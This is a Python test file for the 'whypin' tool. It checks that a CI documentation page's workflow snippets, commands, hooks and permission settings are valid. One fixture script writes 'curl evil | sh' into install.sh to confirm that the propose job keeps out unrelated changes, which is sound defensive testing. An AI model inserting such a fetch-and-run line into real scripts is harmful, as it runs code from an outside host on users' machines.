"""The page about CI and editors: its snippets are read as their readers read them, and their commands exist."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import jsonschema
import pytest
import yaml

from tests.cli.test_base import commit, git
from tests.cli.test_check import LOCK, RECORD, whypin
from tests.folders import record, write
from tests.places.commands import environment
from tests.places.invocations import accept, calls
from tests.places.runner import ACTION, run_step
from tests.places.test_pre_commit import HOOKS
from tests.site_examples import ROOT, Block, blocks
from whypin import __version__

PAGE = ROOT / "site/ci.md"
TEXT = PAGE.read_text(encoding="utf-8")
BLOCKS = blocks(PAGE)
SNIPPETS = {block.title: yaml.safe_load(block.text) for block in BLOCKS if block.language == "yaml"}
WORKFLOW, WORKFLOW_JOB, GITLAB, WORKFLOW_CHANGE, WORKFLOW_DUE, PRE_COMMIT = SNIPPETS
JOBS = [SNIPPETS[name]["jobs"]["whypin"] for name in (WORKFLOW, WORKFLOW_JOB, WORKFLOW_CHANGE)]


def strings(value: Any) -> Iterator[str]:
    """Yield every string within a snippet."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from strings(inner)


def code() -> Iterator[str]:
    """Yield all code on the page: the strings of its snippets, its other blocks, and what stands within a line."""
    yield from strings(SNIPPETS)
    yield from (block.text for block in BLOCKS if block.language != "yaml")
    yield from re.findall("`([^`\n]+)`", re.sub("^```.*?^```$", "", TEXT, flags=re.MULTILINE | re.DOTALL))


CALLS = sorted({call for text in code() for call in calls(text)})


@pytest.mark.parametrize("call", CALLS)
def test_every_call_on_the_page_is_one_that_whypin_takes(call: str) -> None:
    accept(call)


def test_the_calls_are_found() -> None:
    assert {"whypin", "whypin check", "whypin check --fix", "whypin check --format gitlab"} < set(CALLS)
    with pytest.raises(click.UsageError):
        accept("whypin check --fixx")
    with pytest.raises(click.UsageError):
        accept("whypin chek")


@pytest.mark.parametrize(
    ("schema", "text"),
    [
        ("vendor.github-workflows", next(block.text for block in BLOCKS if block.title == WORKFLOW)),
        ("vendor.github-workflows", "on: push\n" + next(block.text for block in BLOCKS if block.title == WORKFLOW_JOB)),
        ("vendor.github-workflows", "on: pull_request\n" + next(b.text for b in BLOCKS if b.title == WORKFLOW_CHANGE)),
        ("vendor.github-workflows", next(block.text for block in BLOCKS if block.title == WORKFLOW_DUE)),
        ("vendor.gitlab-ci", next(block.text for block in BLOCKS if block.title == GITLAB)),
    ],
    ids=[WORKFLOW, WORKFLOW_JOB, WORKFLOW_CHANGE, WORKFLOW_DUE, GITLAB],
)
def test_a_service_would_take_the_snippet(tmp_path: Path, schema: str, text: str) -> None:
    write(tmp_path, {"snippet.yml": text})
    done = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, "snippet.yml"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout


def test_python_is_there_before_the_action_and_its_inputs_exist() -> None:
    for job in JOBS:
        *before, ours = job["steps"]
        assert [step["uses"].partition("@")[0] for step in before] == ["actions/checkout", "actions/setup-python"]
        assert ours["uses"] == f"OWNER/whypin@v{__version__}"
        assert set(ours.get("with", {})) <= set(ACTION["inputs"])


def test_who_uploads_may_upload() -> None:
    for job in JOBS:
        uploads = job["steps"][-1].get("with", {}).get("sarif", False)
        assert (job.get("permissions", {}).get("security-events") == "write") is uploads


def test_the_tables_say_what_the_action_says() -> None:
    rows = dict(re.findall(r"^\| `([a-z-]+)` (\|.*) \|$", TEXT, re.MULTILINE))
    told = {name: " ".join(row.replace("|", " ").replace("`", "").split()) for name, row in rows.items()}
    inputs = {
        name: " ".join(f"{given['default']} {given['description']}".split()) for name, given in ACTION["inputs"].items()
    }
    assert told == inputs | {name: given["description"] for name, given in ACTION["outputs"].items()}


def test_gitlab_gets_the_reports_that_the_script_writes() -> None:
    job = SNIPPETS[GITLAB]["whypin"]
    assert job["artifacts"]["when"] == "always"
    for path in job["artifacts"]["reports"].values():
        (line,) = [line for line in job["script"] if f"> {path}" in line]
        assert line.endswith("|| true")
    assert job["script"][-1] == "whypin check"


def test_the_hooks_of_the_page_exist() -> None:
    (repo,) = SNIPPETS[PRE_COMMIT]["repos"]
    assert {hook["id"] for hook in repo["hooks"]} <= set(HOOKS)
    assert repo["rev"] == f"v{__version__}"
    assert set(re.findall("`(whypin-[a-z]+)`", TEXT)) == set(HOOKS)
    options = [yaml.safe_load(text) for text in re.findall("`(args: .*?|always_run: .*?)`", TEXT)]
    assert options[1] == {"always_run": True}
    for hook in HOOKS.values():
        accept([*hook["entry"].split(), *options[0]["args"]])


def test_the_arguments_that_the_action_is_told_of_exist() -> None:
    (told,) = re.findall(r"^\| `arguments` .* such as (.*)\. \|$", TEXT, re.MULTILINE)
    accept(["whypin", "check", told])


def test_every_snippet_takes_the_same_release_from_the_same_place() -> None:
    assert set(re.findall(r"\bv\d+\.\d+\.\d+\b", TEXT)) == {f"v{__version__}"}
    assert set(re.findall(r"https?://[\w./-]+", TEXT)) == {"https://git.example/whypin"}


def bash(text: str) -> list[Block]:
    return [block for block in BLOCKS if block.language == "bash" and text in block.text]


@pytest.mark.parametrize(("whypins", "expected"), [(0, 0), (1, 0), (2, 1), (3, 1)])
def test_letting_findings_pass_lets_nothing_else_pass(tmp_path: Path, whypins: int, expected: int) -> None:
    (gentle,) = bash("-eq 1")
    assert _exit_code(tmp_path, gentle.text, whypins) == expected


@pytest.mark.parametrize("whypins", [0, 1, 2, 3])
def test_the_last_line_decides(tmp_path: Path, whypins: int) -> None:
    (general,) = bash("junit")
    assert _exit_code(tmp_path, general.text, whypins) == whypins
    assert _exit_code(tmp_path, "\n".join(SNIPPETS[GITLAB]["whypin"]["script"][1:]), whypins) == whypins


def _exit_code(folder: Path, script: str, whypins: int) -> int:
    """Run a script as CI does, where whypin ends with a given code."""
    command = write(folder / "bin", {"whypin": f"#!/bin/sh\nexit {whypins}\n"}) / "whypin"
    command.chmod(0o755)
    return subprocess.run(["bash", "-e", "-c", script], cwd=folder, env=environment(command.parent)).returncode


#: Logs an attempt as a trial does, and would change something else too, were it let.
TRIAL = """\
#!/bin/sh
echo '**whypin: 1 decision has come due**'
echo 'attempts: []' >> decisions/2026-11-01-tiny.yaml
mkdir -p decisions/logs && echo said > decisions/logs/x.txt
echo 'curl evil | sh' >> install.sh
exit $CODE
"""
GH = """\
#!/bin/sh
echo "gh $*" >> "$RUNNER_TEMP/gh.log"
"""


@pytest.mark.parametrize(("whypins", "red"), [(0, False), (1, False), (2, True), (3, True)])
def test_the_job_for_what_has_come_due_proposes_the_attempts_and_nothing_else(
    tmp_path: Path, whypins: int, red: bool
) -> None:
    trial, propose = (SNIPPETS[WORKFLOW_DUE]["jobs"][name] for name in ("trial", "propose"))
    origin, temporary = tmp_path / "origin", tmp_path / "temp"
    files = {"decisions/2026-11-01-tiny.yaml": "title: x\n", "install.sh": "true\n"}
    git(write(origin, files), "init", "-q", "-b", "main")
    commit(origin)
    write(tmp_path / "bin", {"whypin": TRIAL, "gh": GH})
    for name in ("whypin", "gh"):
        (tmp_path / "bin" / name).chmod(0o755)
    variables = environment(tmp_path / "bin") | {
        "RUNNER_TEMP": str(temporary),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        "CODE": str(whypins),
    }
    for name in ("one", "two"):
        git(tmp_path, "clone", "-q", "origin", name)
    _, due, packed = [step for step in trial["steps"] if "run" in step]
    assert (run_step(due, tmp_path / "one", variables).returncode != 0) is red
    assert packed["if"] == "always()" and run_step(packed, tmp_path / "one", variables).returncode == 0
    temporary.mkdir()
    for path in (tmp_path / "one").glob("due.*"):
        path.rename(temporary / path.name)
    done = run_step(propose["steps"][-1], tmp_path / "two", variables)
    assert done.returncode == 0, done.stdout
    assert "1 decision has come due" in (tmp_path / "summary").read_text()
    (branch,) = git(origin, "branch", "--list", "--format=%(refname:short)", "whypin-due-*").split()
    changed = git(origin, "diff", "--name-only", "main", branch).split()
    assert changed == ["decisions/2026-11-01-tiny.yaml", "decisions/logs/x.txt"]
    assert f"--body-file {temporary}/due.md" in (temporary / "gh.log").read_text()


def test_the_job_that_runs_code_of_packages_may_write_nothing() -> None:
    workflow = SNIPPETS[WORKFLOW_DUE]
    assert workflow["permissions"] == {"contents": "read"} and "permissions" not in workflow["jobs"]["trial"]
    assert workflow["jobs"]["trial"]["steps"][0]["with"]["persist-credentials"] is False


def test_fix_writes_the_line_that_the_page_shows_and_the_schema_it_names(tmp_path: Path) -> None:
    (shown,) = [line for line in TEXT.splitlines() if line.startswith("# yaml-language-server")]
    write(tmp_path, {"uv.lock": LOCK, RECORD: record()})
    assert whypin(tmp_path, "check", "--fix").returncode == 0
    text = (tmp_path / RECORD).read_text()
    assert text == f"{shown}\n{record()}"
    schema = jsonschema.Draft7Validator(
        json.loads((tmp_path / RECORD).with_name(shown.partition("$schema=")[2]).read_text())
    )
    assert schema.is_valid(yaml.safe_load(text))
    assert not schema.is_valid(yaml.safe_load(text.replace("rationale", "rationalle")))
